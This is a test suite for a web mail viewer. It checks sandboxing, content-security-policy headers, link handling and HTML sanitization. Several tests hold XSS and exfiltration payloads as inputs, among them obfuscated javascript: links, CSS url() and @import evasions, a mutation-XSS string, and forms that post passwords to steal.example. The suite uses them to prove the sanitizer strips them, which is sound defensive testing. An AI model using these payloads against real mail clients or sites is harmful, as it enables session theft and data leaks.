import { describe, expect, it } from "vitest";
import { openInbox } from "../inbox.testing.ts";
import { mail } from "./read.testing.ts";

describe("a mail", () => {
  const open = async (part: object) => {
    const inbox = await openInbox();
    await inbox.send({ ...mail, text: "", ...part });
    const [message] = await inbox.messages();
    const page = await inbox.open(`/mails/${message?.id}`);
    const [, address = ""] = /<iframe [^>]*src="([^"]+)"/.exec(page.body) ?? [];
    return { inbox, page, address, letter: address ? await inbox.open(address) : undefined };
  };
  const textOf = (page: string): string =>
    page.slice(page.indexOf('id="letter"'), page.indexOf('class="parts"'));

  it("is read once it was opened", async () => {
    const { inbox } = await open({ text: "Hello" });
    expect((await inbox.open("/")).body).not.toContain("is-unread");
  });

  it("is shown as it was sent: its styles, its headings, and how each part of it is to look", async () => {
    const { letter } = await open({
      html: '<html><head><style media="screen">.note > b { color: #2f55c8 }</style></head><body><h1>Hi</h1><p class="note" style="margin: 0">Note</p></body></html>',
    });
    expect(letter?.statusCode).toBe(200);
    expect(letter?.headers["content-type"]).toMatch(/^text\/html/);
    expect(letter?.body).toMatch(
      /<style media="screen">\.note > b { color: #2f55c8 }<\/style><\/head>\s*<body><h1>Hi<\/h1><p class="note" style="margin: 0">Note<\/p>/,
    );
  });

  it("stands in a frame where nothing runs, nothing is sent, and nothing leads the page away", async () => {
    const { page } = await open({ html: "Hi" });
    expect(/ sandbox="([^"]*)"/.exec(page.body)?.[1]?.split(" ").toSorted()).toEqual([
      "allow-popups",
      "allow-popups-to-escape-sandbox",
      "allow-same-origin",
    ]);
    expect(page.headers["content-security-policy"]).toMatch(
      /script-src 'self'; .*frame-ancestors 'none'; .*frame-src 'self'$/,
    );
    expect(page.headers["content-security-policy"]).not.toContain("unsafe");
  });

  it("may fetch nothing, run nothing and send nothing wherever it is opened, and is nobody else's to frame", async () => {
    const { letter } = await open({ html: "Hi" });
    const policy = String(letter?.headers["content-security-policy"]).split("; ");
    expect(policy.toSorted()).toEqual([
      "base-uri 'none'",
      "default-src 'none'",
      "form-action 'none'",
      "frame-ancestors 'self'",
      "sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox",
      "style-src 'unsafe-inline'",
    ]);
    expect(letter?.headers).toMatchObject({
      "x-frame-options": "SAMEORIGIN",
      "cache-control": "no-store",
      "x-content-type-options": "nosniff",
    });
  });

  it("keeps its link, which opens elsewhere and cannot reach back", async () => {
    const { letter } = await open({
      html: '<a class="button" href="http://blog.localhost:4000/posts/1" onclick="x()">Read</a>',
    });
    expect(letter?.body).toContain(
      '<a class="button" href="http://blog.localhost:4000/posts/1" target="_blank" rel="noopener">Read</a>',
    );
  });

  it.each([
    ["a script", "<script>steal()</script>Hi"],
    ["a handler", '<p onmouseover="steal()">Hi</p>'],
    ["a javascript link", '<a href="java&#10;script:steal()">Hi</a>'],
    ["a data link", '<a href="data:text/html,steal()">Hi</a>'],
    ["a remote picture", '<img src="http://steal.example/pixel.gif">Hi'],
    ["a title", "<html><head><title>steal</title></head><body>Hi</body></html>"],
    [
      "a style from elsewhere",
      '<link rel="stylesheet" href="http://steal.example"><style>@import "http://steal.example";</style>Hi',
    ],
    [
      "a picture or typeface of a style",
      '<style>@font-face { src: url(steal) } p { background: u\\rl("steal"); cursor: image-set(steal) }</style><p style="background:ur/**/l(http://steal.example)">Hi</p>',
    ],
    [
      "an element in a style in a picture",
      '<svg><style><a title="</style><img src=steal onerror=steal()>"></svg>Hi',
    ],
    ["a frame", '<iframe srcdoc="steal"></iframe><object data="steal"></object>Hi'],
    ["a form", '<form action="http://steal.example"><input name="password"></form>Hi'],
    [
      "a meta refresh",
      '<meta http-equiv="refresh" content="0;url=http://steal.example"><base href="http://steal.example">Hi',
    ],
    ["an svg", '<svg><a xlink:href="javascript:steal()"><text>Hi</text></a></svg>Hi'],
    ["an attribute nobody knows", "</body></html><p steal>Hi"],
  ])("shows nothing of %s", async (_what, html) => {
    const { letter } = await open({ html });
    expect(letter?.body).toContain("Hi");
    expect(letter?.body).not.toMatch(/steal/);
  });

  it.each([
    ["@@import x;import 'http://steal.example'"],
    ["@im\\port 'http://steal.example'"],
    [
      "p { background: urlurl(x)(http://steal.example) u\\rl(http://steal.example) URL (http://steal.example }",
    ],
    ["<!--</style><img src=http://steal.example>--><style>"],
    ["</sty\\le><img src=http://steal.example>"],
  ])("shows nothing of a style that hides what it fetches: %s", async (css) => {
    const { letter } = await open({ html: `<style>${css}</style><p style="${css}">Hi</p>` });
    expect(letter?.body).toContain("Hi</p>");
    expect(letter?.body).not.toMatch(/@import|\burl ?\(|<img|<!--|<\/style>[^<]*<\/style>/i);
  });

  it("shows its text where it has no HTML, with web addresses as links", async () => {
    const { page, letter } = await open({
      text: "See <http://blog.localhost:4000/a?b=1&c=2>, or (http://x.example/).",
    });
    expect(letter).toBeUndefined();
    expect(textOf(page.body)).toContain(
      '&lt;<a href="http://blog.localhost:4000/a?b=1&amp;c=2" target="_blank" rel="noopener">http://blog.localhost:4000/a?b=1&amp;c=2</a>&gt;',
    );
    expect(textOf(page.body)).toContain(">http://x.example/</a>).");
  });

  it("shows its text line by line as it was written", async () => {
    expect(textOf((await open({ text: "one\ntwo\n  three" })).page.body)).toContain(
      "one\ntwo\n  three",
    );
  });

  it("shows its text where its HTML says nothing", async () => {
    const { page, letter } = await open({
      html: "<style>p { color: red }</style><img src=x>",
      text: "Hello",
    });
    expect([letter, textOf(page.body)]).toEqual([undefined, expect.stringContaining("Hello")]);
  });

  it("shows its source without letting it become our page", async () => {
    const { page } = await open({ html: "<script>steal()</script>", text: "Hello" });
    expect(page.body).toContain("&lt;script&gt;steal()&lt;/script&gt;");
    expect(page.body).not.toContain("<script>steal");
  });

  it("answers HTML of ten thousand nested elements", async () => {
    const { page, letter } = await open({ html: `${"<div>".repeat(10_000)}Hi` });
    expect([page.statusCode, letter?.statusCode]).toEqual([200, 200]);
  });

  it("has no letter once it is gone, or where it never had one", async () => {
    const { inbox, address } = await open({ html: "Hi" });
    expect((await inbox.open(address.replace("/letter", "x/letter"))).statusCode).toBe(404);
    await inbox.send(mail);
    const [, plain] = await inbox.messages();
    expect((await inbox.open(`/mails/${plain?.id}/letter.html`)).statusCode).toBe(404);
  });
});
